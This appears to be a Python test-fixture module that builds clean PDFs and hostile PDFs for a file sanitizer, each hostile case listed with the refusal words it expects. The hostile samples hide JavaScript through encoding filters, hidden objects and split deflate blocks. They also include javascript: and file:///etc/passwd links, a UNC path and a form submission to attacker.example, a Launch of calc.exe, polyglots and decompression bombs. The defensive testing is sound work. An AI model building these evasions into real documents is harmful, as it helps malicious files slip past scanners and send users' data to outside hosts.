"""PDF files built for the tests: clean ones in the shapes real writers produce, and hostile ones, each hiding its
payload the way a scan of raw bytes would miss. Well-formed files come from pikepdf; malformed ones are raw bytes."""

import base64
import io
import zipfile
import zlib

import pikepdf

JS_ACTION = b"<</S/JavaScript/JS(app.alert(1))>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"

ENCODERS = {
    b"/ASCIIHexDecode": lambda data: data.hex().encode() + b">",
    b"/ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    b"/FlateDecode": zlib.compress,
}


def stream_object(data: bytes, extra: bytes = b"", filters: tuple[bytes, ...] = (), eol: bytes = b"\n") -> bytes:
    """The body of a stream object: `filters` in PDF order (the first one is decoded first)."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    filter_entry = b"/Filter[" + b"".join(filters) + b"]" if filters else b""
    return b"<<" + extra + filter_entry + b"/Length %d>>stream" % len(data) + eol + data + b"\nendstream"


def object_stream(objects: dict[int, bytes], filters: tuple[bytes, ...] = (), padding: int = 0, eol=b"\n") -> bytes:
    """An object stream holding `objects`, its first object after `padding` spaces."""
    offsets, body = [], b" " * padding
    for number, content in objects.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += content + b"\n"
    index = b" ".join(offsets) + b" "
    extra = b"/Type/ObjStm/N %d/First %d" % (len(objects), len(index))
    return stream_object(index + body, extra, filters, eol)


def raw_pdf(
    objects: dict[int, bytes],
    *,
    compressed_in: int | None = None,
    compressed: tuple[int, ...] = (),
    hidden: dict[int, bytes] | None = None,
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    tail: bytes = b"",
    root: bytes = CATALOG,
) -> bytes:
    """A PDF whose catalog, pages and page are objects 1 to 3, then `objects`; its cross-reference stream lists the
    objects `compressed` as held in object stream `compressed_in`, and leaves `hidden` out, though they are in
    the file."""
    numbered = {1: root, 2: PAGES, 3: PAGE, **objects}
    data, offsets = bytearray(header), {}
    for number, body in {**numbered, **(hidden or {})}.items():
        if number in numbered:
            offsets[number] = len(data)
        data += b"%d 0 obj" % number + body + b"\nendobj\n"
    size = max([*numbered, *compressed, *(hidden or {})]) + 2
    xref_number = size - 1
    offsets[xref_number] = len(data)
    rows = []
    for number in range(size):
        if number in compressed:
            rows.append(b"\x02" + compressed_in.to_bytes(4, "big") + compressed.index(number).to_bytes(2, "big"))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" * 7)
    xref = stream_object(b"".join(rows), b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R" % size)
    data += b"%d 0 obj" % xref_number + xref + b"\nendobj\n"
    data += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number] + tail
    return bytes(data)


def script_in_object_stream(filters: tuple[bytes, ...], padding: int = 0, eol: bytes = b"\n") -> bytes:
    """The catalog opens a JavaScript action kept, compressed, in an object stream."""
    return raw_pdf(
        {4: object_stream({5: JS_ACTION}, filters, padding, eol)},
        compressed_in=4,
        compressed=(5,),
        root=b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
    )


def split_deflate_script() -> bytes:
    """The JavaScript action in an object stream whose deflate data starts with a stored block (its bytes appear as
    they are, "endstream" among them) and compresses the action in a second block."""
    head = b"5 0 endstream endobj %%EOF "  # the index, then bytes before the first object that readers skip
    stored = b"\x00" + len(head).to_bytes(2, "little") + (len(head) ^ 0xFFFF).to_bytes(2, "little") + head
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = compressor.compress(JS_ACTION) + compressor.flush()
    data = b"\x78\x9c" + stored + rest + zlib.adler32(head + JS_ACTION).to_bytes(4, "big")
    assert zlib.decompress(data) == head + JS_ACTION
    stream = b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(head), len(data))
    return raw_pdf(
        {4: stream + data + b"\nendstream"},
        compressed_in=4,
        compressed=(5,),
        root=b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
    )


def clean_pdf(**save_options) -> bytes:
    """A one-page letter with text, a web link, an email link, metadata and an outline, as a writer would save it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (We commit to the charter of the network.) Tj ET")
    page.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[72, 700, 300, 720],
                    A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.city.example/")),
                ),
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[72, 670, 300, 690],
                    A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("mailto:mayor@city.example")),
                ),
            ]
        )
    )
    pdf.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
    with pdf.open_metadata() as meta:
        meta["dc:title"] = "Letter of commitment"
    pdf.docinfo["/Title"] = "Letter of commitment"
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Commitment", 0))
    out = io.BytesIO()
    pdf.save(out, **save_options)
    return out.getvalue()


def incrementally_updated_pdf() -> bytes:
    """A clean PDF with a signature-style incremental update: a new Info object, a second xref section, /Prev."""
    original = clean_pdf()
    pdf = pikepdf.open(io.BytesIO(original))
    size = int(pdf.trailer.Size)
    root = pdf.trailer.Root.objgen[0]
    previous = int(original[original.rfind(b"startxref") + 9 :].split()[0])
    start = len(original)
    added = b"%d 0 obj<</Title(Letter of commitment, signed)/Producer(City Hall)>>\nendobj\n" % size
    xref_at = start + len(added)
    xref = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, start)
    trailer = b"trailer<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d>>\n" % (size + 1, root, size, previous)
    return original + added + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % xref_at


def with_pikepdf(change) -> bytes:
    """A clean one-page PDF that `change(pdf)` adds something to, saved by qpdf."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def link(action: pikepdf.Dictionary):
    def change(pdf):
        pdf.pages[0].Annots = pdf.make_indirect(
            pikepdf.Array(
                [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)]
            )
        )

    return change


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<p>also an archive</p>")
    return out.getvalue()


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"not really a program")


def _xfa_script(pdf):
    template = (
        b"<xdp:xdp><template><subform><event activity='initialize'>"
        b"<script contentType='application/x-javascript'>app.alert(1)</script></event></subform></template></xdp:xdp>"
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(zlib.compress(template), Filter=pikepdf.Name.FlateDecode)
    )


def _document_script(pdf):
    action = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pdf.make_stream(zlib.compress(b"app.alert(1)"), Filter=pikepdf.Name.FlateDecode)
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    )


def _stream(content: bytes, compress: bool = True):
    def change(pdf):
        if compress:
            pdf.Root.Extra = pdf.make_stream(zlib.compress(content), Filter=pikepdf.Name.FlateDecode)
        else:
            pdf.Root.Extra = pdf.make_stream(content)

    return change


def _page_actions(pdf):
    page = pdf.pages[0]
    page.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([page.obj, pikepdf.Name.Fit]))
    )


def _annotation(subtype: str):
    def change(pdf):
        annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9])
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation]))

    return change


def _open_action(action: pikepdf.Dictionary):
    def change(pdf):
        pdf.Root.OpenAction = action

    return change


def _bomb(sizes: list[int]):
    def change(pdf):
        streams = [
            pdf.make_stream(zlib.compress(b"\0" * size + bytes([index])), Filter=pikepdf.Name.FlateDecode)
            for index, size in enumerate(sizes)
        ]
        pdf.Root.Extra = pikepdf.Array(streams)

    return change


def _encrypted() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
DOS_PROGRAM = (
    b"MZ\x90\x00\x03"
    + b"\x00" * 59
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!This program cannot be run in DOS mode.\r\r\n$"
)
URI = pikepdf.Name.URI
MB = 1024 * 1024

# Each hostile file: how to build it (called when the test runs) and words the refusal must contain.
HOSTILE = {
    "script-in-object-stream-behind-asciihex": (lambda: script_in_object_stream((b"/ASCIIHexDecode",)), "JavaScript"),
    "script-in-object-stream-behind-ascii85": (lambda: script_in_object_stream((b"/ASCII85Decode",)), "JavaScript"),
    "script-behind-hex-then-flate": (
        lambda: script_in_object_stream((b"/ASCIIHexDecode", b"/FlateDecode")),
        "JavaScript",
    ),
    "script-after-10-mb-of-inflated-padding": (
        lambda: script_in_object_stream((b"/FlateDecode",), padding=10 * MB),
        "JavaScript",
    ),
    "script-behind-stream-and-a-lone-cr": (
        lambda: script_in_object_stream((b"/FlateDecode",), eol=b"\r"),
        "JavaScript",
    ),
    "script-split-across-deflate-blocks-around-endstream": (split_deflate_script, "JavaScript"),
    "script-in-the-document-names": (lambda: with_pikepdf(_document_script), "JavaScript"),
    "script-in-an-object-no-table-lists": (lambda: raw_pdf({}, hidden={7: JS_ACTION}), "JavaScript"),
    "script-in-an-escaped-name": (
        lambda: raw_pdf({4: b"<</S/J#61vaScript/J#53(app.alert(1))>>"}),
        "JavaScript",
    ),
    "xfa-form-script": (lambda: with_pikepdf(_xfa_script), "XFA"),
    "html-after-the-pdf-header": (
        lambda: b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n" + clean_pdf()[9:],
        "web page code",
    ),
    "pdf-and-zip-polyglot": (lambda: clean_pdf() + zip_archive(), "ZIP archive"),
    "zip-archive-inside-a-stream": (lambda: with_pikepdf(_stream(zip_archive(), compress=False)), "ZIP archive"),
    "windows-program-mid-file": (lambda: with_pikepdf(_stream(DOS_PROGRAM, compress=False)), "program inside"),
    "linux-program-compressed-mid-file": (lambda: with_pikepdf(_stream(ELF_HEADER)), "program inside"),
    "svg-with-onload": (
        lambda: with_pikepdf(_stream(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
        "web page code",
    ),
    "svg-in-a-stream-no-table-lists": (
        lambda: raw_pdf({}, hidden={7: stream_object(b"<svg onload=alert(1)>", filters=(b"/FlateDecode",))}),
        "web page code",
    ),
    "uri-javascript": (
        lambda: with_pikepdf(link(pikepdf.Dictionary(S=URI, URI=pikepdf.String("javascript:app.alert(1)")))),
        "link to something other than a web page",
    ),
    "uri-javascript-as-a-hex-string": (
        lambda: raw_pdf({4: b"<</S/URI/URI<" + b"JaVaScRiPt:app.alert(1)".hex().encode() + b">>>"}),
        "link to something other than a web page",
    ),
    "uri-to-a-local-file": (
        lambda: with_pikepdf(link(pikepdf.Dictionary(S=URI, URI=pikepdf.String("file:///etc/passwd")))),
        "network share",
    ),
    "gotor-to-a-unc-path": (
        lambda: with_pikepdf(
            link(
                pikepdf.Dictionary(
                    S=pikepdf.Name.GoToR,
                    F=pikepdf.String("\\\\attacker.example\\share\\letter.pdf"),
                    D=pikepdf.Array([0, pikepdf.Name.Fit]),
                )
            )
        ),
        "network share",
    ),
    "submitform-to-an-outside-address": (
        lambda: with_pikepdf(
            link(
                pikepdf.Dictionary(
                    S=pikepdf.Name.SubmitForm,
                    F=pikepdf.Dictionary(FS=URI, F=pikepdf.String("https://attacker.example/collect")),
                )
            )
        ),
        "SubmitForm",
    ),
    "launch-action": (
        lambda: with_pikepdf(link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")))),
        "launches a program",
    ),
    "importdata-action": (
        lambda: with_pikepdf(link(pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")))),
        "ImportData",
    ),
    "open-action-running-a-link": (
        lambda: with_pikepdf(_open_action(pikepdf.Dictionary(S=URI, URI=pikepdf.String("https://tracker.example/")))),
        "run on their own",
    ),
    "page-additional-actions": (lambda: with_pikepdf(_page_actions), "run on their own"),
    "embedded-file": (lambda: with_pikepdf(_embedded_file), "embedded files"),
    "rich-media": (lambda: with_pikepdf(_annotation("/RichMedia")), "multimedia or 3D"),
    "3d-annotation": (lambda: with_pikepdf(_annotation("/3D")), "multimedia or 3D"),
    "lzw-stream": (
        lambda: raw_pdf({4: b"<</Filter/LZWDecode/Length 9>>stream\n\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01\nendstream"}),
        "LZW",
    ),
    "data-after-the-last-eof": (lambda: clean_pdf() + b"<p>more</p>", "after its last %%EOF"),
    "password-protected": (_encrypted, "password"),
    "more-filters-than-allowed": (lambda: script_in_object_stream((b"/FlateDecode",) * 5), "damaged"),
    "decompression-bomb-in-one-stream": (lambda: with_pikepdf(_bomb([40 * MB])), "too much work"),
    "decompression-bomb-over-several-streams": (
        lambda: with_pikepdf(_bomb([24 * MB, 24 * MB, 24 * MB])),
        "too much work",
    ),
}

CLEAN = {
    "as-saved-by-a-writer": lambda: clean_pdf(),
    "object-streams": lambda: clean_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "linearized": lambda: clean_pdf(linearize=True),
    "incremental-update": incrementally_updated_pdf,
    "uncompressed-with-a-classic-table": lambda: clean_pdf(compress_streams=False),
    "remote-link-to-a-web-pdf": lambda: with_pikepdf(
        link(
            pikepdf.Dictionary(
                S=pikepdf.Name.GoToR,
                F=pikepdf.Dictionary(FS=URI, F=pikepdf.String("https://www.city.example/charter.pdf")),
                D=pikepdf.Array([0, pikepdf.Name.Fit]),
            )
        )
    ),
}
